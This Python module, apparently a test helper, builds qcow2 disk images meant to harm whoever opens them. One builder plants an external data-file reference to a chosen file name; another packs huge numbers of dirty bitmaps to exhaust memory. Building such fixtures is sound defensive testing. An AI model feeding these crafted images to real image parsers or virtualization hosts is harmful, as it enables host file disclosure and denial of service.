"""qcow2 headers made to harm whoever opens them.

Source: QEMU's docs/interop/qcow2.txt.
"""

import struct
from typing import Final

_CLUSTER: Final = 1 << 16
_REFCOUNTS, _L1, _DIRECTORY, _TABLE, _NAME = (_CLUSTER * n for n in (1, 3, 64, 4, 5))
_BITMAPS: Final = 0x23852875
_DATA_FILE: Final = 0x44415441


def header(
    *,
    version: int = 3,
    backing: bytes = b"",
    cluster_bits: int = 16,
    size: int = 1 << 30,
    encryption: int = 0,
    l1_size: int = 2,
    refcount_clusters: int = 1,
    snapshots: int = 0,
    incompatible: int = 0,
    autoclear: int = 0,
    extensions: bytes = b"",
    length: int = 1 << 20,
) -> bytes:
    """Return a qcow2 image without data whose header says what is given."""
    head = struct.pack(">4sIQIIQIIQ", b"QFI\xfb", version, _NAME if backing else 0, len(backing), cluster_bits, size,
                       encryption, l1_size, _L1)  # fmt: skip
    head += struct.pack(">QIIQ", _REFCOUNTS, refcount_clusters, snapshots, _DIRECTORY if snapshots else 0)
    head += struct.pack(">QQQII", incompatible, 0, autoclear, 4, 104) + extensions + bytes(8)
    image = bytearray(length)
    image[: len(head)] = head
    image[_REFCOUNTS : _REFCOUNTS + 8] = struct.pack(">Q", 2 * _CLUSTER)
    image[2 * _CLUSTER : 3 * _CLUSTER] = b"\0\1" * (_CLUSTER // 2)
    image[_NAME : _NAME + len(backing)] = backing
    return bytes(image)


def with_data_file(name: bytes) -> bytes:
    return header(incompatible=1 << 2, extensions=_extension(_DATA_FILE, name))


def with_bitmaps(count: int, *, size: int, granularity_bits: int, is_loaded: bool) -> bytes:
    """Return an image with dirty bitmaps, which whoever opens it keeps in memory and compares by name."""
    entries = max(1, (size >> granularity_bits) // 8 // _CLUSTER)
    flags = 2 if is_loaded else 0
    directory = b"".join(
        struct.pack(">QIIBBHI", _TABLE, entries, flags, 1, granularity_bits, 6, 0) + b"%06d\0\0" % n
        for n in range(count)
    )
    extension = _extension(_BITMAPS, struct.pack(">IIQQ", count, 0, len(directory), _DIRECTORY))
    l1_size = max(1, size >> 29)
    length = _DIRECTORY + len(directory) + _CLUSTER
    image = bytearray(header(size=size, l1_size=l1_size, autoclear=1, extensions=extension, length=length))
    image[_DIRECTORY : _DIRECTORY + len(directory)] = directory
    return bytes(image)


def _extension(kind: int, data: bytes) -> bytes:
    return struct.pack(">II", kind, len(data)) + data + bytes(-len(data) % 8)
